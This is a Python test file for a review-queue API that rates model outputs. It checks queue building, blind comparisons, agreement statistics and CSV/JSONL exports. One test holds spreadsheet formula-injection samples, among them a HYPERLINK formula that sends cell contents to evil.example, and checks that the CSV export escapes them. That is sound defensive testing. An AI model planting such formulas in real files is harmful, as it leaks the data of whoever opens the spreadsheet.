"""Review queues through the API on real databases: building, one review per reviewer per item, blind mode,
agreement against hand-computed figures, and the exports checked line by line."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient
from helpers import bearer
from sqlalchemy.exc import IntegrityError

from app import review
from app.main import create_app
from app.store import run_state
from app.store.db import session_scope
from app.store.models import PlaygroundGeneration, Review, Sample
from app.store.settings import Settings

OBJECTIVES = ["positivity", "brevity"]


@pytest.fixture(scope="module")
def settings(database_url: str, api_broker_url: str, tmp_path_factory: pytest.TempPathFactory) -> Settings:
    return Settings(database_url=database_url, broker_url=api_broker_url, data_dir=tmp_path_factory.mktemp("data"))


@pytest.fixture(scope="module")
def clients(settings: Settings) -> Iterator[dict[str, TestClient]]:
    app = create_app(settings)
    who = {"trainer": ("trainer", "tia"), "rev1": ("reviewer", "rae"), "rev2": ("reviewer", "rob")}
    opened = {key: TestClient(app, headers=bearer(settings, role, name)) for key, (role, name) in who.items()}
    for client in opened.values():
        client.__enter__()
    yield opened
    for client in opened.values():
        client.__exit__(None, None, None)


def make_run_with_samples(settings: Settings) -> int:
    """Steps 1–3, 4 samples each: weights (w, 1-w) with w = 0, 1/3, 2/3, 1; every other one accepted."""
    config = {"objectives": [{"name": n, "type": "sentiment"} for n in OBJECTIVES], "iterations": 3}
    with session_scope(settings.database_url) as session:
        run_id = run_state.create_run(session, "reviewed", config, 3, "tia").id
        for step in (1, 2, 3):
            for position in range(4):
                w = position / 3
                session.add(
                    Sample(
                        run_id=run_id,
                        step=step,
                        position=position,
                        prompt_id=f"p{position}",
                        prompt=f"prompt {position}",
                        weights=[w, 1 - w],
                        response=f"response {step}.{position}",
                        raw_rewards={"positivity": 0.1 * position, "brevity": -float(step)},
                        normalized_rewards={"positivity": 0.0, "brevity": 0.0},
                        accepted=position % 2 == 0,
                    )
                )
    return run_id


def put(client: TestClient, item_id: int, ratings: dict[str, str], overall: str | None, submit: bool = True) -> Any:
    body = {"ratings": ratings, "overall": overall, "comment": "ok", "submit": submit}
    return client.put(f"/api/review/items/{item_id}/review", json=body)


def test_queues_from_samples_by_step_weight_acceptance_and_random_n(settings: Settings, clients: dict) -> None:
    run_id = make_run_with_samples(settings)
    trainer = clients["trainer"]

    def build(**source: Any) -> dict[str, Any]:
        body = {"name": "q", "source": {"type": "samples", "run_id": run_id, **source}}
        response = trainer.post("/api/review/queues", json=body)
        assert response.status_code == 201, response.text
        return dict(response.json())

    assert build()["items"] == 12
    assert build(step_min=2, step_max=2)["items"] == 4
    assert build(accepted_only=True)["items"] == 6
    assert build(weight_objective="positivity", weight_min=0.5, weight_max=1.0)["items"] == 6  # w = 2/3 and 1
    assert build(random_n=5, seed=1)["items"] == 5
    queue = build(step_min=3)
    assert queue["kind"] == "single" and queue["objectives"] == OBJECTIVES and queue["created_by"] == "tia"
    empty = trainer.post(
        "/api/review/queues", json={"name": "q", "source": {"type": "samples", "run_id": run_id, "step_min": 99}}
    )
    assert empty.status_code == 422 and "empty" in empty.text
    wrong = trainer.post(
        "/api/review/queues",
        json={"name": "q", "source": {"type": "samples", "run_id": run_id, "weight_objective": "nope"}},
    )
    assert wrong.status_code == 422
    assert (
        clients["rev1"]
        .post("/api/review/queues", json={"name": "q", "source": {"type": "samples", "run_id": run_id}})
        .status_code
        == 403
    )


def test_one_review_per_reviewer_per_item_drafts_submission_and_closing(settings: Settings, clients: dict) -> None:
    run_id = make_run_with_samples(settings)
    queue = (
        clients["trainer"]
        .post("/api/review/queues", json={"name": "q", "source": {"type": "samples", "run_id": run_id, "step_min": 3}})
        .json()
    )
    items = clients["rev1"].get(f"/api/review/queues/{queue['id']}/items").json()
    item = items[0]["id"]
    draft = put(clients["rev1"], item, {"positivity": "4"}, None, submit=False)
    assert draft.status_code == 200 and draft.json()["review"]["status"] == "draft"
    incomplete = put(clients["rev1"], item, {"positivity": "4"}, None)
    assert incomplete.status_code == 422 and "needs every objective" in incomplete.text
    assert put(clients["rev1"], item, {"positivity": "9", "brevity": "1"}, "3").status_code == 422
    assert put(clients["rev1"], item, {"nope": "1"}, "3").status_code == 422
    assert put(clients["rev1"], item, {"positivity": "4", "brevity": "2"}, "3").status_code == 200
    edited = put(clients["rev1"], item, {"positivity": "5", "brevity": "2"}, "3")  # editable while open
    assert edited.json()["review"]["ratings"]["positivity"] == "5"
    assert put(clients["rev2"], item, {"positivity": "1", "brevity": "1"}, "1").status_code == 200
    with session_scope(settings.database_url) as session:
        rows = session.query(Review).filter(Review.item_id == item).all()
        assert sorted((r.reviewer, r.status) for r in rows) == [("rae", "submitted"), ("rob", "submitted")]
        with pytest.raises(IntegrityError):  # the database itself refuses a second review by the same reviewer
            session.add(Review(item_id=item, reviewer="rae", ratings={}, overall=None, comment="", status="draft"))
            session.flush()
        session.rollback()
    mine = clients["rev1"].get(f"/api/review/queues/{queue['id']}").json()["mine"]
    assert mine == {"draft": 0, "submitted": 1}
    assert clients["rev1"].post(f"/api/review/queues/{queue['id']}/close").status_code == 403  # a trainer's act
    assert clients["trainer"].post(f"/api/review/queues/{queue['id']}/close").json()["status"] == "closed"
    assert put(clients["rev1"], item, {"positivity": "1", "brevity": "1"}, "1").status_code == 409


def comparison_queue(settings: Settings, clients: dict, blind: bool) -> tuple[dict[str, Any], list[int]]:
    """Four playground generations of two outputs each: four comparison items. A scores higher on positivity in
    generations 0, 1 and 3, B in generation 2; A is always shorter (higher brevity)."""
    run_id = make_run_with_samples(settings)
    ids = []
    with session_scope(settings.database_url) as session:
        for g in range(4):
            a_better = g != 2
            outputs = [
                {
                    "weights": w,
                    "auto": False,
                    "samples": [
                        {
                            "text": f"gen {g} {label}",
                            "scores": {
                                "positivity": (0.9 if (label == "A") == a_better else 0.1),
                                "brevity": -1.0 if label == "A" else -5.0,
                            },
                            "normalized": {},
                            "front": None,
                        }
                    ],
                }
                for label, w in (("A", [1.0, 0.0]), ("B", [0.0, 1.0]))
            ]
            generation = PlaygroundGeneration(
                run_id=run_id,
                created_by="tia",
                checkpoint="iter-000001",
                prompt=f"prompt {g}",
                weights=[[1, 0], [0, 1]],
                seed=0,
                temperature=0.7,
                max_new_tokens=8,
                samples=1,
                status="succeeded",
                outputs=outputs,
            )
            session.add(generation)
            session.flush()
            ids.append(generation.id)
    body = {"name": "pairs", "blind": blind, "source": {"type": "playground", "generation_ids": ids}}
    queue = clients["trainer"].post("/api/review/queues", json=body).json()
    return queue, ids


def stored_order(client: TestClient, queue_id: int) -> list[dict[str, Any]]:
    """Items with their responses in stored (A, B) order, whatever order the queue shows them in."""
    items = client.get(f"/api/review/queues/{queue_id}/items").json()
    return sorted(items, key=lambda i: i["prompt"])


def test_agreement_against_hand_computed_figures(settings: Settings, clients: dict) -> None:
    queue, _ = comparison_queue(settings, clients, blind=False)
    assert queue["kind"] == "comparison" and queue["items"] == 4
    items = stored_order(clients["rev1"], queue["id"])
    assert [i["responses"][0]["text"] for i in items] == [f"gen {g} A" for g in range(4)]
    # Overall and positivity: rae A, A, B, tie; rob A, B, B, tie.
    for reviewer, choices in (("rev1", ["A", "A", "B", "tie"]), ("rev2", ["A", "B", "B", "tie"])):
        for item, choice in zip(items, choices, strict=True):
            response = put(clients[reviewer], item["id"], {"positivity": choice, "brevity": "A"}, choice)
            assert response.status_code == 200, response.text
    summary = clients["trainer"].get(f"/api/review/queues/{queue['id']}/summary").json()
    positivity = summary["targets"]["positivity"]
    # Nominal alpha by hand: 8 pairable values, n_A = 3, n_B = 3, n_tie = 2; one disagreeing pair (item 2).
    # D_o = 2/8; D_e = (8² − (3² + 3² + 2²)) / (8·7) = 42/56; alpha = 1 − D_o/D_e = 2/3.
    assert positivity["krippendorff_alpha"] == pytest.approx(2 / 3)
    assert positivity["pairwise_agreement"] == pytest.approx(3 / 4)
    # Team vs reward: non-tie judgements that chose the higher positivity: rae 3 of 3, rob 2 of 3 → 5/6.
    assert positivity["reward_agreement"] == pytest.approx(5 / 6)
    brevity = summary["targets"]["brevity"]
    assert brevity["pairwise_agreement"] == 1.0 and brevity["reward_agreement"] == 1.0  # A is always shorter
    assert brevity["krippendorff_alpha"] is None  # every value the same: alpha is undefined
    assert summary["targets"]["overall"]["judgements"] == 8
    assert summary["reviewers"] == {"rae": {"draft": 0, "submitted": 4}, "rob": {"draft": 0, "submitted": 4}}


def test_ratings_agreement_spearman_and_ordinal_alpha(settings: Settings, clients: dict) -> None:
    run_id = make_run_with_samples(settings)
    queue = (
        clients["trainer"]
        .post("/api/review/queues", json={"name": "q", "source": {"type": "samples", "run_id": run_id, "step_min": 3}})
        .json()
    )
    items = sorted(clients["rev1"].get(f"/api/review/queues/{queue['id']}/items").json(), key=lambda i: i["prompt"])
    # positivity scores of the four items: 0.0, 0.1, 0.2, 0.3 (prompt 0…3).
    for reviewer, ratings in (("rev1", ["1", "3", "2", "4"]), ("rev2", ["1", "3", "2", "5"])):
        for item, rating in zip(items, ratings, strict=True):
            assert put(clients[reviewer], item["id"], {"positivity": rating, "brevity": "3"}, rating).status_code == 200
    positivity = clients["trainer"].get(f"/api/review/queues/{queue['id']}/summary").json()["targets"]["positivity"]
    # Mean ratings 1, 3, 2, 4.5 against scores 0, 0.1, 0.2, 0.3: ranks 1,3,2,4 vs 1,2,3,4, Σd² = 2,
    # Spearman = 1 − 6·2 / (4·15) = 0.8.
    assert positivity["reward_agreement"] == pytest.approx(0.8)
    assert positivity["pairwise_agreement"] == pytest.approx(3 / 4)
    import krippendorff
    import numpy as np

    expected = krippendorff.alpha(
        reliability_data=np.array([[1, 3, 2, 4], [1, 3, 2, 5]], dtype=float),
        level_of_measurement="ordinal",
        value_domain=[1.0, 2.0, 3.0, 4.0, 5.0],
    )
    assert positivity["krippendorff_alpha"] == pytest.approx(expected) and 0.8 < expected < 1


def test_blind_queues_hide_the_condition_before_and_after_submitting(settings: Settings, clients: dict) -> None:
    """Before, a reviewer's throwaway submission showed run, weights and scores, and a PUT then changed the ratings;
    the queue list showed reviewers each blind queue's run."""
    queue, ids = comparison_queue(settings, clients, blind=True)
    items = clients["rev1"].get(f"/api/review/queues/{queue['id']}/items").json()
    assert all(set(r) == {"text"} for item in items for r in item["responses"])
    swapped = [item for item in items if item["responses"][0]["text"].endswith(" B")]
    assert 0 < len(swapped) < len(items) or len(items) < 4  # a random order per item (seeded)
    # The reviewer picks what is shown first; the review is stored in the item's own A/B order.
    shown_first = items[0]
    response = put(clients["rev1"], shown_first["id"], {"positivity": "A", "brevity": "B"}, "A")
    submitted = response.json()
    assert response.status_code == 200 and all(set(r) == {"text"} for r in submitted["responses"])
    assert submitted["review"]["overall"] == "A"  # shown back as chosen, in display order
    after = clients["rev1"].get(f"/api/review/queues/{queue['id']}/items").json()
    assert all(set(r) == {"text"} for item in after for r in item["responses"])  # submitted or not
    first_is_b = shown_first["responses"][0]["text"].endswith(" B")
    with session_scope(settings.database_url) as session:
        stored = session.query(Review).filter(Review.item_id == shown_first["id"]).one()
        assert stored.overall == ("B" if first_is_b else "A")
    # Reviewers do not see where a blind queue's items come from; the trainer who builds queues does.
    for listed in (
        clients["rev1"].get("/api/review/queues").json(),
        [clients["rev1"].get(f"/api/review/queues/{queue['id']}").json()],
    ):
        mine = next(q for q in listed if q["id"] == queue["id"])
        assert mine["source"] == {} and "generation_ids" not in json.dumps(mine)
    trainer_view = clients["trainer"].get(f"/api/review/queues/{queue['id']}").json()
    assert trainer_view["source"]["generation_ids"] == ids


def test_a_draft_save_cannot_empty_a_submitted_review(settings: Settings, clients: dict) -> None:
    queue, _ = comparison_queue(settings, clients, blind=False)
    item = stored_order(clients["rev1"], queue["id"])[0]["id"]
    assert put(clients["rev1"], item, {"positivity": "A", "brevity": "B"}, "A").status_code == 200
    emptied = clients["rev1"].put(f"/api/review/items/{item}/review", json={"ratings": {}, "submit": False})
    assert emptied.status_code == 409 and "submitted" in emptied.text  # before: 200, submitted with no ratings
    lines = clients["trainer"].get(f"/api/review/queues/{queue['id']}/export?format=jsonl").text.splitlines()
    assert [json.loads(line)["ratings"] for line in lines] == [{"positivity": "chosen", "brevity": "rejected"}]
    # A complete submission still replaces it while the queue is open.
    assert put(clients["rev1"], item, {"positivity": "B", "brevity": "B"}, "B").json()["review"]["overall"] == "B"


def test_exports_line_by_line(settings: Settings, clients: dict) -> None:
    queue, _ = comparison_queue(settings, clients, blind=False)
    items = stored_order(clients["rev1"], queue["id"])
    put(clients["rev1"], items[0]["id"], {"positivity": "A", "brevity": "B"}, "A")
    put(clients["rev1"], items[1]["id"], {"positivity": "tie", "brevity": "B"}, "B")
    put(clients["rev2"], items[1]["id"], {"positivity": "A", "brevity": "A"}, "tie")
    put(
        clients["rev2"], items[2]["id"], {"positivity": "A", "brevity": "A"}, None, submit=False
    )  # a draft: not exported
    jsonl = clients["trainer"].get(f"/api/review/queues/{queue['id']}/export?format=jsonl")
    assert jsonl.status_code == 200 and jsonl.headers["content-type"].startswith("application/x-ndjson")
    lines = [json.loads(line) for line in jsonl.text.splitlines()]
    assert [(line["item_id"], line["reviewer"]) for line in lines] == [
        (items[0]["id"], "rae"),
        (items[1]["id"], "rae"),
        (items[1]["id"], "rob"),
    ]
    assert lines[0] == {
        "queue_id": queue["id"],
        "item_id": items[0]["id"],
        "prompt": "prompt 0",
        "chosen": "gen 0 A",
        "rejected": "gen 0 B",
        "tie": False,
        "ratings": {"positivity": "chosen", "brevity": "rejected"},
        "reviewer": "rae",
        "comment": "ok",
    }
    assert (lines[1]["chosen"], lines[1]["rejected"], lines[1]["ratings"]) == (
        "gen 1 B",
        "gen 1 A",
        {"positivity": "tie", "brevity": "chosen"},
    )
    assert (
        lines[2]["tie"] is True
        and lines[2]["chosen"] is None
        and lines[2]["ratings"] == {"positivity": "a", "brevity": "a"}
    )
    exported = clients["trainer"].get(f"/api/review/queues/{queue['id']}/export?format=csv")
    rows = list(csv.reader(io.StringIO(exported.text)))
    assert rows[0] == [
        "queue_id",
        "item_id",
        "position",
        "reviewer",
        "prompt",
        "response_a",
        "response_b",
        *OBJECTIVES,
        "overall",
        "comment",
    ]
    assert rows[1][3:] == ["rae", "prompt 0", "gen 0 A", "gen 0 B", "A", "B", "A", "ok"]
    assert len(rows) == 4
    assert clients["rev1"].get(f"/api/review/queues/{queue['id']}/export").status_code == 403


def test_validation_of_review_values_is_per_kind() -> None:
    queue = review.ReviewQueue(kind="single", objectives=["a"], status="open")
    with pytest.raises(review.ReviewError, match="ratings.a: one of"):
        review.validate_review(queue, {"a": "A"}, None, False)
    comparison = review.ReviewQueue(kind="comparison", objectives=["a"], status="open")
    assert review.validate_review(comparison, {"a": "tie"}, "B", True) == ({"a": "tie"}, "B")


def test_csv_export_neutralises_formulas(settings: Settings, clients: dict) -> None:
    """Before, a comment =HYPERLINK("http://evil.example/?"&A2,"click") was exported as is: a spreadsheet runs it."""
    queue, _ = comparison_queue(settings, clients, blind=False)
    items = stored_order(clients["rev1"], queue["id"])
    hostile = ['=HYPERLINK("http://evil.example/?"&A2,"click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
    for item, comment in zip(items, hostile[:4], strict=True):
        body = {"ratings": {"positivity": "A", "brevity": "A"}, "overall": "A", "comment": comment, "submit": True}
        assert clients["rev1"].put(f"/api/review/items/{item['id']}/review", json=body).status_code == 200
    exported = clients["trainer"].get(f"/api/review/queues/{queue['id']}/export?format=csv")
    comments = [row[-1] for row in list(csv.reader(io.StringIO(exported.text)))[1:]]
    assert comments == [f"'{c}" for c in hostile[:4]]
    assert [review.spreadsheet_safe(c) for c in hostile] == [f"'{c}" for c in hostile]
    assert review.spreadsheet_safe("fine = good") == "fine = good" and review.spreadsheet_safe(-1) == -1
    # The jsonl export is data, not a spreadsheet: as written.
    lines = clients["trainer"].get(f"/api/review/queues/{queue['id']}/export").text.splitlines()
    assert [json.loads(line)["comment"] for line in lines] == hostile[:4]


@pytest.mark.parametrize(("weights", "samples", "pairs"), [(3, 2, 3), (3, 1, 1), (4, 3, 6), (2, 4, 1)])
def test_comparison_pairs_never_share_a_response(settings: Settings, weights: int, samples: int, pairs: int) -> None:
    """Pairs that shared a response gave the next item's weights away once one was revealed."""
    run_id = make_run_with_samples(settings)
    outputs = [
        {
            "weights": [k / (weights - 1), 1 - k / (weights - 1)],
            "auto": False,
            "samples": [{"text": f"w{k} s{i}", "scores": {"positivity": 0.5, "brevity": -1.0}} for i in range(samples)],
        }
        for k in range(weights)
    ]
    with session_scope(settings.database_url) as session:
        generation = PlaygroundGeneration(
            run_id=run_id,
            created_by="tia",
            prompt="p",
            weights=[o["weights"] for o in outputs],
            seed=0,
            temperature=0.7,
            max_new_tokens=8,
            samples=samples,
            status="succeeded",
            outputs=outputs,
        )
        session.add(generation)
        session.flush()
        items = review.comparison_items(session, [generation.id], ["positivity", "brevity"])
    texts = [r["text"] for item in items for r in item["responses"]]
    assert len(items) == pairs and len(texts) == len(set(texts)), texts
    assert all(item["responses"][0]["weights"] != item["responses"][1]["weights"] for item in items)


def test_a_queue_has_a_rubric_from_its_objectives_types_and_its_builder(settings: Settings, clients: dict) -> None:
    run_id = make_run_with_samples(settings)
    source = {"type": "samples", "run_id": run_id, "steps": [1]}
    body = {"name": "rubric", "source": source, "rubric": {"brevity": "5: one line; 1: a page."}}
    queue = clients["trainer"].post("/api/review/queues", json=body).json()
    rubric = clients["rev1"].get(f"/api/review/queues/{queue['id']}").json()["rubric"]
    assert rubric["brevity"] == "5: one line; 1: a page."  # the builder's own words win
    assert rubric["positivity"] == review.RUBRIC_BY_TYPE["sentiment"]  # the rest from the objective's type
    assert rubric["overall"] == review.OVERALL_RUBRIC
    refused = clients["trainer"].post(
        "/api/review/queues", json={**body, "rubric": {"tone": "5: kind"}, "name": "unknown"}
    )
    assert refused.status_code == 422 and "rubric: tone not an objective" in refused.text
    too_long = clients["trainer"].post("/api/review/queues", json={**body, "rubric": {"brevity": "x" * 501}})
    assert too_long.status_code == 422 and "at most 500" in too_long.text
